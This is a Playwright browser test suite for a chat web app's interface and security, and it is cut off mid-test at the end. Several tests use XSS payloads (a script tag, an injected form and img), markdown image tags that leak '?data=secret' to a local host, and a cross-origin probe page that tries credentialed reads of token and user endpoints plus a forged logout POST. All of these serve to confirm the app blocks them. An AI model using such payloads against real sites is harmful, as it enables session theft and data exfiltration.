"""A tester's session in a real browser (Debian's chromium, headless, driven by Playwright).

One server for the module (a tiny random model, so replies are fast and long); each
test logs in as its own user so the tests do not see each other's chats.
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import signal
import subprocess
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import httpx
import pytest

from storage.database import Database
from storage.repository import Repository
from tests.browser import (
    ARTIFACTS,
    BOT_BUBBLES,
    CHROMIUM,
    PHONE,
    ROWS,
    USER_BUBBLES,
    browser_pages,
    contrast,
    conversation_in_address,
    last_reply,
    log_in,
    open_row,
    row_menu,
    row_texts,
    wait_for,
    wait_until_loaded,
    wait_until_settled,
)
from tests.models import SERVER_CONTEXT, build_tiny_llama
from tests.support import PYTHON, ROOT, add_user, login_cookies, read_stored, running_server

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="chromium is not installed (apt-get install chromium)")

PASSWORD = "browser-password"
USERS = ("tester", "keys", "themes", "stopper", "switcher", "searcher", "renderer", "settler", "phone", "pager",
         "versions", "sidebar", "rater")


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    model = build_tiny_llama(tmp_path_factory.mktemp("browser-model"), max_positions=SERVER_CONTEXT)
    data = tmp_path_factory.mktemp("browser-data")
    with running_server(data, str(model), CHAT_MAX_NEW_TOKENS="400", CHAT_RATE_LIMIT="100") as process:
        for name in USERS:
            add_user(data, name, PASSWORD)
        yield process


@pytest.fixture(scope="module")
def pages():
    with browser_pages() as new_page:
        yield new_page


def off_the_page_loop(coroutine_function):
    """Playwright's sync API keeps an event loop running in this thread: read the database from another."""
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, coroutine_function()).result()


def stored(server, username: str, conversation_id: str):
    return off_the_page_loop(lambda: read_stored(server.database_url, username, conversation_id))


def stored_chats(server, username: str):
    async def read():
        database = Database(server.database_url)
        try:
            repository = Repository(database)
            user = await repository.get_user(username)
            return await repository.list_conversations(user.id, limit=500)
        finally:
            await database.dispose()

    return off_the_page_loop(read)


def import_chats(server, username: str, conversations: list[dict]) -> None:
    """Chats put in through the CLI's import, as an admin restoring logs would."""
    document = {"format": "chat-server-export", "version": 1, "exported_at": datetime.now(UTC).isoformat(),
                "conversations": conversations}
    path = server.data_dir / f"import-{uuid.uuid4().hex}.json"
    path.write_text(json.dumps(document))
    environment = {**os.environ, "CHAT_DATA_DIR": str(server.data_dir)}
    environment.pop("CHAT_DATABASE_URL", None)
    subprocess.run([PYTHON, "-m", "app", "import", str(path), "--user", username], cwd=ROOT, env=environment,
                   check=True, capture_output=True)


def chat_document(title: str, messages: list[tuple[str, str, str | None]], when: datetime | None = None) -> dict:
    moment = (when or datetime.now(UTC)).isoformat()
    return {
        "id": str(uuid.uuid4()), "title": title, "model": "imported", "created_at": moment, "updated_at": moment,
        "messages": [
            {"role": role, "content": content, "finish_reason": finish, "created_at": moment}
            for role, content, finish in messages
        ],
    }


def plain(text: str) -> str:
    """Letters and digits only: stored Markdown and its rendering compare equal."""
    return "".join(char for char in text if char.isalnum())


def send_with_enter(page, text: str) -> None:
    box = page.locator("#message textarea")
    box.click()
    box.fill(text)
    box.press("Enter")


def set_max_new_tokens(page, value: int) -> None:
    number = page.locator("#max-new-tokens input[type=number]")
    number.fill(str(value))
    number.press("Tab")


def start_long_reply(page, text: str) -> None:
    set_max_new_tokens(page, 400)
    send_with_enter(page, text)
    wait_for(lambda: len(last_reply(page)) > 20 and page.locator("#stop").is_visible(), timeout=60)


def test_a_tester_chats_reloads_reopens_and_exports(server, pages):
    page = pages()
    log_in(page, server.url, "tester", PASSWORD)
    page.screenshot(path=ARTIFACTS / "1-logged-in.png")

    send_with_enter(page, "Hello <script>window.__pwned = 1</script> browser")
    seen: list[str] = []
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(seen) < 4:
        text = last_reply(page)
        if text and (not seen or seen[-1] != text):
            seen.append(text)
        page.wait_for_timeout(30)
    assert len(seen) >= 3, f"the reply did not stream: {seen}"  # several growing versions were shown
    settled = wait_until_settled(page)
    page.screenshot(path=ARTIFACTS / "2-replied.png")
    assert "the model failed" not in settled  # (random words may include "failed")
    assert re.search(r"\d+ tokens · first token \d+\.\d\d s · \d+\.\d tokens/s", settled)  # the reply's figures
    assert page.evaluate("() => window.__pwned") is None
    user_bubble = page.locator(USER_BUBBLES).first.inner_text()
    assert "<script>window.__pwned = 1</script>" in user_bubble  # shown as text
    conversation_id = wait_for(lambda: conversation_in_address(page))

    page.goto(server.url)  # reload without the chat in the address
    wait_until_loaded(page)
    wait_for(lambda: row_texts(page))
    assert re.fullmatch(r"Hello <script>.* \d\d:\d\d", row_texts(page)[0])  # the title as text, with its time
    assert page.evaluate("() => window.__pwned") is None
    open_row(page, "Hello <script>")
    wait_for(lambda: conversation_in_address(page) == conversation_id)
    page.locator(USER_BUBBLES).first.wait_for(timeout=30_000)
    assert page.locator(BOT_BUBBLES).count() >= 1
    page.screenshot(path=ARTIFACTS / "3-reopened.png")

    with page.expect_download(timeout=10_000) as download_info:  # one click in the row's menu downloads
        row_menu(page, "Hello <script>", "Export JSON")
    document = json.loads(Path(download_info.value.path()).read_text())
    conversation = document["conversations"][0]
    assert conversation["id"] == conversation_id and conversation["user"] == "tester"
    assert [m["role"] for m in conversation["messages"]] == ["user", "assistant"]
    assert conversation["messages"][0]["content"] == "Hello <script>window.__pwned = 1</script> browser"

    row_menu(page, "Hello <script>", "Delete…")  # the confirmation names the chat
    dialog = page.locator("#delete-dialog")
    assert dialog.is_visible() and "“Hello <script>window.__pwned = 1</script> browser”" in dialog.inner_text()
    dialog.get_by_role("button", name="Delete").click()
    wait_for(lambda: page.locator(ROWS).count() == 0)
    wait_for(lambda: conversation_in_address(page) is None)  # it was the chat on screen: the pane empties
    assert page.locator(USER_BUBBLES).count() == 0 and stored_chats(server, "tester") == []


def test_the_sidebar_groups_pins_renames_deletes_and_forgets_emptied_chats(server, pages):
    now = datetime.now(UTC)
    import_chats(server, "sidebar", [
        chat_document("a month old", [("user", "m", None), ("assistant", "M", "eos")], now - timedelta(days=30)),
        chat_document("three days old", [("user", "t", None), ("assistant", "T", "eos")], now - timedelta(days=3)),
        chat_document("from yesterday", [("user", "y", None), ("assistant", "Y", "eos")], now - timedelta(days=1)),
        chat_document("earlier today", [("user", "e", None), ("assistant", "E", "eos")], now - timedelta(seconds=1)),
        chat_document("latest today", [("user", "l", None), ("assistant", "L", "eos")], now),
    ])
    page = pages()
    log_in(page, server.url, "sidebar", PASSWORD)
    groups = page.locator("#chat-list .chat-group-title")
    wait_for(lambda: page.locator(ROWS).count() == 5)
    assert groups.all_inner_texts() == ["Today", "Yesterday", "Previous 7 days", "Older"]
    assert page.locator("#chat-list .chat-title").all_inner_texts() == [  # newest first
        "latest today", "earlier today", "from yesterday", "three days old", "a month old"]
    times = page.locator("#chat-list .chat-when").all_inner_texts()  # each with its time
    assert all(re.fullmatch(r"\d\d:\d\d", t) for t in times[:3]) and re.fullmatch(r"\w{3} \d\d:\d\d", times[3])
    assert re.fullmatch(r"\d+ \w{3}( \d{4})?", times[4])
    assert not page.locator("#retry").is_visible() and not page.locator("#undo").is_visible()  # an empty chat

    row_menu(page, "a month old", "Pin to the top")  # pinned: on top, and it stays there
    wait_for(lambda: groups.first.inner_text() == "Pinned" and row_texts(page)[0].startswith("a month old"), timeout=10)
    page.reload()
    wait_until_loaded(page)
    wait_for(lambda: groups.first.inner_text() == "Pinned" and row_texts(page)[0].startswith("a month old"), timeout=10)
    assert [c.title for c in stored_chats(server, "sidebar") if c.pinned] == ["a month old"]

    open_row(page, "from yesterday")
    wait_for(lambda: page.locator(USER_BUBBLES).count() and page.locator(USER_BUBBLES).first.inner_text() == "y")
    assert page.locator("#retry").is_visible() and page.locator("#undo").is_visible()
    on_screen = conversation_in_address(page)

    row_menu(page, "three days old", "Rename")  # in place, in the row; another chat stays on screen
    title_box = page.locator(f"{ROWS} input.chat-rename")
    assert title_box.input_value() == "three days old"
    title_box.fill("renamed in place")
    title_box.press("Enter")
    wait_for(lambda: any(t.startswith("renamed in place") for t in row_texts(page)), timeout=10)
    wait_for(lambda: "renamed in place" in [c.title for c in stored_chats(server, "sidebar")], timeout=10)
    row_menu(page, "renamed in place", "Rename")
    title_box.fill("not kept")
    title_box.press("Escape")  # Escape cancels
    assert any(t.startswith("renamed in place") for t in row_texts(page)) and title_box.count() == 0

    row_menu(page, "earlier today", "Delete…")  # the dialog names the chat; Cancel keeps it
    dialog = page.locator("#delete-dialog")
    assert dialog.is_visible() and "Delete the chat “earlier today”?" in dialog.inner_text()
    dialog.get_by_role("button", name="Cancel").click()
    assert not dialog.is_visible() and page.locator(ROWS, has_text="earlier today").count() == 1
    row_menu(page, "earlier today", "Delete…")
    dialog.get_by_role("button", name="Delete").click()
    wait_for(lambda: page.locator(ROWS, has_text="earlier today").count() == 0, timeout=10)
    assert "earlier today" not in [c.title for c in stored_chats(server, "sidebar")]
    assert conversation_in_address(page) == on_screen  # the chat on screen was another one: still shown
    assert page.locator(USER_BUBBLES).first.inner_text() == "y"

    with page.expect_download(timeout=10_000) as download_info:  # everything, one click
        page.locator("#export-all-link").click()
    lines = Path(download_info.value.path()).read_text().splitlines()
    assert sorted(json.loads(line)["title"] for line in lines) == [
        "a month old", "from yesterday", "latest today", "renamed in place"]
    own = stored_chats(server, "sidebar")[0].id
    mine = httpx.get(f"{server.url}export/{own}?format=md", cookies=login_cookies(server.url, "sidebar", PASSWORD))
    theirs = httpx.get(f"{server.url}export/{own}?format=md", cookies=login_cookies(server.url, "keys", PASSWORD))
    assert mine.status_code == 200 and "a month old" in mine.text
    assert theirs.status_code == 404 and "a month old" not in theirs.text  # another user's chat: not found

    # a refused export is a note on the page, never a saved file that looks like an export
    cookies = login_cookies(server.url, "sidebar", PASSWORD)
    statuses = [httpx.get(f"{server.url}export/{own}?format=md", cookies=cookies).status_code for _ in range(10)]
    assert statuses[-1] == 429  # this minute's exports are used up
    downloads: list[object] = []
    page.on("download", lambda download: downloads.append(download))
    page.locator("#export-all-link").click()
    note = page.locator("#export-note")
    note.wait_for(state="visible", timeout=10_000)
    assert "Too many exports" in note.inner_text() and "seconds" in note.inner_text()
    page.screenshot(path=ARTIFACTS / "export-refused.png")
    page.wait_for_timeout(1000)
    assert downloads == []

    page.locator("#new-chat").click()  # a chat whose only exchange is undone leaves the list at once
    wait_for(lambda: conversation_in_address(page) is None and not page.locator("#undo").is_visible())
    send_with_enter(page, "a question to take back")
    wait_until_settled(page)
    assert row_texts(page)[1].startswith("a question to take back")  # below the pinned chat
    page.locator("#undo").click()
    wait_for(lambda: page.locator(ROWS, has_text="a question to take back").count() == 0, timeout=10)
    assert page.locator(USER_BUBBLES).count() == 0 and conversation_in_address(page) is None
    assert not page.locator("#retry").is_visible() and not page.locator("#undo").is_visible()
    assert "a question to take back" not in [c.title for c in stored_chats(server, "sidebar")]
    send_with_enter(page, "the next message starts a fresh chat")
    wait_until_settled(page)
    titles = [c.title for c in stored_chats(server, "sidebar")]
    assert "the next message starts a fresh chat" in titles and len(titles) == 5
    page.screenshot(path=ARTIFACTS / "sidebar.png")


def test_enter_sends_and_shift_enter_adds_a_line(server, pages):
    page = pages()
    log_in(page, server.url, "keys", PASSWORD)
    box = page.locator("#message textarea")
    box.click()
    box.type("first line")
    box.press("Shift+Enter")
    box.type("second line")
    page.wait_for_timeout(500)
    assert box.input_value() == "first line\nsecond line"  # a new line, nothing sent
    assert page.locator(USER_BUBBLES).count() == 0
    box.press("Enter")
    page.locator(USER_BUBBLES).first.wait_for(timeout=30_000)
    wait_for(lambda: box.input_value() == "")  # sent, and the box emptied
    conversation_id = wait_for(lambda: conversation_in_address(page))
    wait_until_settled(page)
    assert stored(server, "keys", conversation_id).messages[0].content == "first line\nsecond line"


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_messages_are_readable_in_light_and_dark(server, pages, scheme):
    page = pages(color_scheme=scheme)
    log_in(page, server.url, "themes", PASSWORD)
    assert page.evaluate("() => document.body.classList.contains('dark')") == (scheme == "dark")
    send_with_enter(page, "Is this readable?")
    wait_until_settled(page)
    page.screenshot(path=ARTIFACTS / f"theme-{scheme}.png")
    for selector in (USER_BUBBLES, BOT_BUBBLES):
        measured = contrast(page, selector)
        assert measured["ratio"] >= 4.5, (scheme, selector, measured)
    page.locator("#theme-toggle").click()  # the toggle switches, and the text stays readable
    assert page.evaluate("() => document.body.classList.contains('dark')") == (scheme != "dark")
    assert contrast(page, BOT_BUBBLES)["ratio"] >= 4.5


def test_stop_is_immediate_and_what_is_shown_is_stored(server, pages):
    page = pages()
    log_in(page, server.url, "stopper", PASSWORD)
    start_long_reply(page, "a long answer please")
    page.locator("#stop").click()

    def stopped_reply() -> str | None:
        text = last_reply(page)
        return text if "(stopped)" in text else None

    at_stop = wait_for(stopped_reply, timeout=0.5, interval=0.01)  # within half a second of the click
    assert "interrupted" not in at_stop
    page.wait_for_timeout(2000)
    half_second_later = last_reply(page)
    # nothing new after the click: the text the "(stopped)" mark first came with is the text that stays
    # (the reply's figures line follows it once stored)
    assert plain(half_second_later).startswith(plain(at_stop))
    assert plain(half_second_later.split("(stopped)")[0]) == plain(at_stop.split("(stopped)")[0])
    assert page.locator("#send").is_visible() and not page.locator("#stop").is_visible()
    conversation_id = conversation_in_address(page)
    reply = stored(server, "stopper", conversation_id).messages[-1]
    assert reply.finish_reason == "stopped" and 0 < reply.completion_tokens < 400
    assert plain(reply.content) == plain(at_stop.split("(stopped)")[0])  # what was shown is what is stored
    page.reload()
    wait_until_loaded(page)
    assert "(stopped)" in last_reply(page)

    start_long_reply(page, "and again, stopped with Escape")
    page.keyboard.press("Escape")
    wait_for(lambda: "(stopped)" in last_reply(page), timeout=1.0)


def test_opening_another_chat_mid_reply_shows_that_chat(server, pages):
    page = pages()
    log_in(page, server.url, "switcher", PASSWORD)
    send_with_enter(page, "chat B, the quiet one")
    wait_until_settled(page)
    chat_b = conversation_in_address(page)
    page.locator("#new-chat").click()
    wait_for(lambda: conversation_in_address(page) is None)
    start_long_reply(page, "chat A streams a long reply")
    chat_a = wait_for(lambda: conversation_in_address(page))
    assert chat_a != chat_b

    open_row(page, "chat B")
    # at once (one round trip; generous here because the test machine may be loaded)
    wait_for(lambda: "chat B, the quiet one" in page.locator(USER_BUBBLES).first.inner_text(), timeout=10)
    assert page.locator("#chat .message.user").count() == 1  # chat B only
    for _ in range(20):  # for two seconds, chat A's reply never shows up here
        assert "chat A" not in page.locator("#chat").inner_text()
        assert conversation_in_address(page) == chat_b
        assert page.locator("#conversation-id textarea, #conversation-id input").first.input_value() == chat_b
        page.wait_for_timeout(100)
    assert page.locator("#send").is_visible()  # chat B has no reply running
    send_with_enter(page, "the next message, for chat B")
    wait_until_settled(page)
    assert [m.content for m in stored(server, "switcher", chat_b).messages if m.role == "user"] == [
        "chat B, the quiet one", "the next message, for chat B"]
    assert conversation_in_address(page) == chat_b

    a_messages = wait_for(lambda: (m := stored(server, "switcher", chat_a).messages)[-1].role == "assistant" and m)
    assert a_messages[-1].finish_reason in ("length", "eos") and a_messages[-1].content  # finished in its own chat
    open_row(page, "chat A")
    wait_for(lambda: "chat A streams" in page.locator("#chat").inner_text(), timeout=5)
    assert plain(a_messages[-1].content)[:30] in plain(last_reply(page))


def test_search_by_typing_pasting_clearing_and_no_match(server, pages):
    import_chats(server, "searcher", [
        chat_document("apples and pears", [("user", "fruit talk", None)]),
        chat_document("bicycles", [("user", "the word zebracrossing is only in the text", None)]),
        chat_document("cooking", [("user", "soup", None)]),
    ])
    page = pages()
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    log_in(page, server.url, "searcher", PASSWORD)
    labels = page.locator(ROWS)
    wait_for(lambda: labels.count() == 3)
    search = page.locator("#search textarea, #search input").first
    page.evaluate("() => navigator.clipboard.writeText('zebracross')")
    search.click()
    page.keyboard.press("Control+V")  # pasting searches
    wait_for(lambda: labels.count() == 1 and "bicycles" in labels.first.inner_text(), timeout=5)
    for _ in range(len("zebracross")):  # clearing with Backspace brings every chat back
        search.press("Backspace")
    wait_for(lambda: labels.count() == 3, timeout=5)
    note = page.locator("#no-match")
    search.type("so")  # two characters search titles only, and the page says so
    wait_for(lambda: "3 or more characters" in note.inner_text() and labels.count() == 0, timeout=5)
    search.type("u")  # "sou": the message "soup" is found, the note goes
    wait_for(lambda: labels.count() == 1 and "cooking" in labels.first.inner_text(), timeout=5)
    wait_for(lambda: "3 or more" not in note.inner_text(), timeout=5)
    search.fill("")
    wait_for(lambda: labels.count() == 3, timeout=5)
    search.type("nothing like this")
    wait_for(lambda: "No chats match" in page.locator("#chat-list").inner_text(), timeout=5)
    assert labels.count() == 0
    page.locator("#clear-search").click()
    wait_for(lambda: labels.count() == 3 and search.input_value() == "", timeout=5)
    assert "No chats match" not in page.locator("#chat-list").inner_text()


class PixelServer(BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self):
        PixelServer.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

    def log_message(self, *args):
        pass


def test_code_stays_code_and_nothing_else_is_html(server, pages):
    pixel = ThreadingHTTPServer(("127.0.0.1", 0), PixelServer)
    threading.Thread(target=pixel.serve_forever, daemon=True).start()
    image = f"http://127.0.0.1:{pixel.server_address[1]}/pixel.gif"
    cut_reply = "Here is the page:\n\n```html\n<b>bold?</b> if a < b && c > d\n"  # cut inside the fence
    import_chats(server, "renderer", [chat_document("rendering", [
        ("user", "show me \\`<form><input id=evil-input><img src=x>`", None),
        ("assistant", cut_reply, "length"),
        ("user", f"and an image ![pixel]({image}) please", None),
        ("assistant", f"![leak]({image}?data=secret) and <img src='{image}?raw'>", "eos"),
    ])])
    try:
        page = pages()
        log_in(page, server.url, "renderer", PASSWORD)
        open_row(page, "rendering")
        page.locator(USER_BUBBLES).nth(1).wait_for(timeout=30_000)
        page.wait_for_timeout(1000)
        page.screenshot(path=ARTIFACTS / "rendering.png")
        assert page.locator("#evil-input").count() == 0 and page.locator("#chat form").count() == 0
        assert "<form><input id=evil-input>" in page.locator(USER_BUBBLES).first.inner_text()
        code = page.locator("#chat .message.bot pre code").first
        assert code.inner_text().strip() == "<b>bold?</b> if a < b && c > d"  # literal, escaped once
        cut_bubble = page.locator(BOT_BUBBLES).first
        note = cut_bubble.get_by_text("cut at the max new tokens limit")
        assert note.count() == 1 and note.evaluate("(n) => !n.closest('pre')")  # the note is outside the code
        assert page.locator("#chat img[src*='pixel']").count() == 0
        assert PixelServer.hits == []  # no image was fetched from the other host
    finally:
        pixel.shutdown()


def test_settings_are_kept_with_the_chat(server, pages):
    page = pages()
    log_in(page, server.url, "settler", PASSWORD)
    page.locator("#settings-sidebar .toggle-button").click()
    page.locator("#system-prompt textarea").fill("You answer in one word.")
    temperature = page.locator("#temperature input[type=number]")
    temperature.fill("0.25")
    temperature.press("Tab")
    set_max_new_tokens(page, 12)
    send_with_enter(page, "settings test")
    wait_until_settled(page)
    conversation_id = conversation_in_address(page)
    first = stored(server, "settler", conversation_id).messages
    assert first[0].role == "system" and first[1].params["temperature"] == 0.25

    page.locator("#new-chat").click()  # a new chat starts with the last settings
    wait_for(lambda: conversation_in_address(page) is None)
    assert page.locator("#temperature input[type=number]").input_value() == "0.25"
    temperature.fill("1.5")
    temperature.press("Tab")
    page.goto(f"{server.url}?c={conversation_id}")  # reopened: the chat's own settings
    wait_until_loaded(page)
    wait_for(lambda: page.locator("#temperature input[type=number]").input_value() == "0.25", timeout=5)
    assert page.locator("#max-new-tokens input[type=number]").input_value() == "12"
    assert page.locator("#system-prompt textarea").input_value() == "You answer in one word."


def test_phone_layout(server, pages):
    import_chats(server, "phone", [
        chat_document("same title", [("user", "first of two", None)], datetime(2026, 1, 5, 9, 30, tzinfo=UTC)),
        chat_document("same title", [("user", "second of two", None)]),
    ])
    page = pages(viewport=PHONE)
    log_in(page, server.url, "phone", PASSWORD)
    sidebar = page.locator("#chats-sidebar")
    wait_for(lambda: "open" not in (sidebar.get_attribute("class") or ""), timeout=10)  # closed on load
    page.wait_for_timeout(500)
    page.screenshot(path=ARTIFACTS / "phone-chat.png")
    box = page.locator("#message textarea").bounding_box()
    assert box["x"] >= 0 and box["x"] + box["width"] <= PHONE["width"]
    sidebar.locator(".toggle-button").click()
    labels = page.locator(ROWS)
    wait_for(lambda: labels.count() == 2)
    page.wait_for_timeout(500)
    page.screenshot(path=ARTIFACTS / "phone-list.png")
    first, second = row_texts(page)
    assert first != second and "same title" in first and "5 Jan" in second  # same titles, told apart
    assert page.locator("#chat-list .chat-group-title").all_inner_texts() == ["Today", "Older"]
    menu_button = labels.nth(0).locator(".chat-menu-button").bounding_box()  # reachable by a thumb
    assert menu_button["width"] >= 28 and menu_button["x"] + menu_button["width"] <= PHONE["width"]
    labels.nth(1).locator(".chat-open").click()
    wait_for(lambda: "open" not in (sidebar.get_attribute("class") or ""), timeout=5)  # closed after a pick
    page.locator(USER_BUBBLES).first.wait_for(timeout=10_000)
    assert "first of two" in page.locator(USER_BUBBLES).first.inner_text()
    page.wait_for_timeout(500)  # the sidebar's closing animation
    page.screenshot(path=ARTIFACTS / "phone-picked.png")


PROBE_PAGE = """<!doctype html><html><body><iframe id="framed" src="{target}"></iframe><script>
window.results = {{}};
async function probe(name, path, init) {{
  try {{
    const answer = await fetch("{target}" + path, Object.assign({{credentials: "include"}}, init || {{}}));
    window.results[name] = "read " + answer.status + ": " + (await answer.text()).slice(0, 200);
  }} catch (error) {{
    window.results[name] = "blocked";
  }}
}}
(async () => {{
  await probe("config", "config");
  await probe("token", "gradio_api/token");
  await probe("user", "gradio_api/user");
  await probe("chats", "gradio_api/queue/join", {{method: "POST", headers: {{"Content-Type": "application/json"}},
    body: JSON.stringify({{fn_index: 0, data: [], session_hash: "probe"}})}});
  await probe("form", "logout", {{method: "POST", mode: "no-cors"}});
  window.done = true;
}})();
</script></body></html>"""


@pytest.fixture
def other_origin_site(server):
    """A page served from another port of the same host: same site, another origin."""
    import http.server
    import threading

    body = PROBE_PAGE.format(target=server.url).encode()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=site.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{site.server_address[1]}/"
    finally:
        site.shutdown()
        site.server_close()


def test_a_page_on_another_origin_reads_nothing_of_a_logged_in_user(server, pages, other_origin_site):
    page = pages()
    refused_by_policy: list[str] = []
    page.on("console", lambda message: refused_by_policy.append(message.text)
            if "Content Security Policy" in message.text else None)
    log_in(page, server.url, "tester", PASSWORD)
    assert page.evaluate("() => document.cookie") == ""  # the login cookie is HttpOnly: no script reads it
    assert refused_by_policy == []  # our own page works under its policy

    page.goto(other_origin_site)
    page.wait_for_function("() => window.done === true", timeout=30_000)
    results = page.evaluate("() => window.results")
    assert results and all(value == "blocked" for value in results.values()), results
    framed = next(frame for frame in page.frames if frame != page.main_frame)
    assert not framed.url.startswith(server.url)  # the chat page refused to be framed

    page.goto(server.url)  # the refused cross-origin logout did nothing: still logged in
    page.locator("#message textarea").wait_for(timeout=30_000)
    page.locator("#logout").click()  # and the page's own Log out ends the login
    page.wait_for_url("**/login", timeout=30_000)
    page.goto(server.url)
    assert "/login" in page.url and page.get_by_label("Username").is_visible()


def test_the_chat_list_reaches_every_chat(server, pages):
    start = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)
    import_chats(server, "pager", [
        chat_document(f"old chat {number:03d}", [("user", f"message {number}", None)],
                      start.replace(day=1 + number % 28, month=1 + number // 28))
        for number in range(120)
    ])
    page = pages()
    log_in(page, server.url, "pager", PASSWORD)
    labels, more = page.locator(ROWS), page.locator("#more-chats")
    wait_for(lambda: labels.count() == 50)
    more.click()
    wait_for(lambda: labels.count() == 100)
    more.click()
    wait_for(lambda: labels.count() == 120)
    wait_for(lambda: not more.is_visible(), timeout=5)
    oldest = labels.last
    assert "old chat 000" in oldest.inner_text() and "2025" in oldest.inner_text()
    oldest.locator(".chat-open").click()
    wait_for(lambda: "message 0" in page.locator(USER_BUBBLES).first.inner_text(), timeout=10)


def test_versions_edits_and_ratings_survive_a_reload(server, pages):
    """Retry, switch between the versions, edit the question, rate a reply with a comment, reload."""
    page = pages()
    log_in(page, server.url, "versions", PASSWORD)
    set_max_new_tokens(page, 12)
    send_with_enter(page, "first question")
    first = wait_until_settled(page)
    conversation_id = wait_for(lambda: conversation_in_address(page))

    page.locator("#retry").click()
    wait_for(lambda: "2 / 2" in last_reply(page), timeout=60)
    second = wait_until_settled(page)
    assert plain(second.split("tokens")[0]) != plain(first.split("tokens")[0])
    page.locator("#chat a.version-prev").last.click()  # ‹ : back to the first version
    wait_for(lambda: "1 / 2" in last_reply(page), timeout=30)
    assert plain(last_reply(page).split("‹")[0]) == plain(first)
    assert stored(server, "versions", conversation_id).messages[1].version == 1
    page.screenshot(path=ARTIFACTS / "versions-1-switched.png")

    # edit the question in its bubble: a new version of it with its own reply
    page.locator(USER_BUBBLES).first.hover()
    page.locator("#chat button[aria-label='Edit']").first.click()
    editor = page.locator("#chat textarea").first
    editor.fill("edited question")
    page.locator("#chat button[aria-label='Submit']").first.click()
    wait_for(lambda: "edited question" in page.locator(USER_BUBBLES).first.inner_text(), timeout=30)
    wait_for(lambda: "your message:" in last_reply(page) and "2 / 2" in last_reply(page), timeout=60)
    edited_reply = wait_until_settled(page)
    conversation = stored(server, "versions", conversation_id)
    assert conversation.messages[0].content == "edited question" and len(conversation.tree) == 5

    # rate the reply on screen, with a comment
    page.locator("#chat button[aria-label='Like']").last.click()
    page.locator("#rating-comment textarea, #rating-comment input").first.wait_for(timeout=15_000)
    wait_for(lambda: "Rated 👍" in page.locator("#status").inner_text(), timeout=15)
    page.locator("#rating-comment textarea, #rating-comment input").first.fill("too short")
    page.locator("#save-comment").click()
    wait_for(lambda: "Comment saved." in page.locator("#status").inner_text(), timeout=15)
    rating = stored(server, "versions", conversation_id).messages[1].rating
    assert (rating.value, rating.comment) == ("up", "too short")
    page.screenshot(path=ARTIFACTS / "versions-2-rated.png")

    page.reload()
    wait_until_loaded(page)
    wait_for(lambda: "too short" in last_reply(page), timeout=30)
    reply = last_reply(page)
    assert "your message:" in reply and "2 / 2" in reply and plain(edited_reply.split("💬")[0]) in plain(reply)
    liked = page.locator("#chat button[aria-label='Liked']")
    wait_for(lambda: liked.count() == 1, timeout=15)  # the thumb shows the stored rating
    assert "edited question" in page.locator(USER_BUBBLES).first.inner_text()
    # the question's first version is one click away, with its own (first) reply
    page.locator("#chat .user-versions a.version-prev").last.click()
    wait_for(lambda: "first question" in page.locator(USER_BUBBLES).first.inner_text(), timeout=30)
    assert "1 / 2" in last_reply(page)
    wait_for(lambda: liked.count() == 0, timeout=15)  # that reply is not rated
    page.screenshot(path=ARTIFACTS / "versions-3-reloaded.png")


def test_a_reply_still_being_written_cannot_be_rated_yet(server, pages):
    """A thumb on the streaming reply is refused in words; once it is stored, the same thumb rates it."""
    page = pages()
    log_in(page, server.url, "rater", PASSWORD)
    start_long_reply(page, "rate me while I am being written")
    page.locator("#chat button[aria-label='Like']").last.click()  # the thumb under the streaming reply
    # refused in words while it streams (the reply is 400 tokens: seconds more to go)
    toast = page.locator(".toast-body", has_text="still being written")
    wait_for(lambda: toast.count() > 0, timeout=10)
    conversation_id = wait_for(lambda: conversation_in_address(page))
    wait_for(lambda: page.locator("#send").is_visible(), timeout=60)  # the reply is done and stored
    reply = stored(server, "rater", conversation_id).messages[-1]
    assert reply.role == "assistant" and reply.rating is None  # nothing was rated while it streamed
    page.locator("#chat button[aria-label='Like']").last.click()
    wait_for(lambda: "Rated 👍" in page.locator("#status").inner_text(), timeout=15)
    assert stored(server, "rater", conversation_id).messages[-1].rating.value == "up"


def test_a_page_left_open_across_a_restart_goes_on_with_its_chat(tmp_path, pages):
    """The admin restarts the server while a tester's tab stays open: without a reload, the
    next messages still go to the chat on screen (the server has never seen that page load)."""
    from tests.support import ServerProcess

    data = tmp_path / "data"
    data.mkdir()
    process = ServerProcess(data, str(build_tiny_llama(tmp_path / "model", max_positions=SERVER_CONTEXT)),
                            {"CHAT_ADMIN_PASSWORD": "admin-password", "CHAT_MAX_NEW_TOKENS": "8"}).start()
    try:
        add_user(data, "stayer", PASSWORD)
        page = pages()
        log_in(page, process.url, "stayer", PASSWORD)
        send_with_enter(page, "before the restart")
        wait_until_settled(page)
        chat = conversation_in_address(page)
        process.stop()
        process.start(same_port=True)
        for text in ("after the restart", "and once more"):
            send_with_enter(page, text)
            wait_until_settled(page)
            wait_for(lambda: page.locator("#send").is_visible(), timeout=30)
        assert conversation_in_address(page) == chat
        asked = [m.content for m in stored(process, "stayer", chat).messages if m.role == "user"]
        assert asked == ["before the restart", "after the restart", "and once more"]
    finally:
        process.kill()


def test_ctrl_c_with_pages_open_is_quick_and_quiet(tmp_path, pages):
    """A fresh server prints the admin password last, in a box; Ctrl-C with a tab open ends
    within 3 s when idle and within the grace period when a reply streams, with no traceback."""
    from app.web.server import SHUTDOWN_GRACE_SECONDS
    from tests.support import ServerProcess

    model = build_tiny_llama(tmp_path / "model", max_positions=SERVER_CONTEXT)
    for busy in (False, True):
        data = tmp_path / f"data-{busy}"
        data.mkdir()
